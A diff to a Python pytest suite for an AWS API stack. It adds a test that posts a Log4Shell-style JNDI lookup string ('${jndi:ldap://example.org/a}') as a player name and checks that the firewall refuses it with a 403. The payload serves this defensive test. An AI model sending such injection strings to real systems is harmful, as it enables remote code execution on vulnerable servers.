@@ -4,7 +4,7 @@ from itertools import chain
 
 import pytest
 
-from tests.at_table import table
+from tests.at_table import Person, refused, table
 from tests.aws.doors import Door, eventually
 from tools.lambda_python import NAME
 
@@ -59,6 +59,15 @@ def test_the_api_is_at_one_stage_only(stack):
     assert [stage["stageName"] for stage in stages] == ["api"]
     assert Door(stack.gateway()).get("/api/v1/health").status_code == 200
     assert Door(stack.gateway()).get("/Stage/v1/health").status_code in {403, 404}
+
+
+def test_a_text_that_the_firewall_takes_for_an_attack_is_refused_for_good(stack):
+    if stack.parameter("Firewall") != "true":
+        pytest.skip("this stack has no firewall: its parameter Firewall is false")
+    answer = Person(Door(f"{stack.gateway()}/api")).post("/v1/players", {"name": "${jndi:ldap://example.org/a}"})
+    refused(answer, 403, "text-refused")
+    assert answer.headers["Access-Control-Allow-Origin"] == "*"
+    assert "Retry-After" not in answer.headers
 
 
 def test_what_is_kept_is_protected(stack):
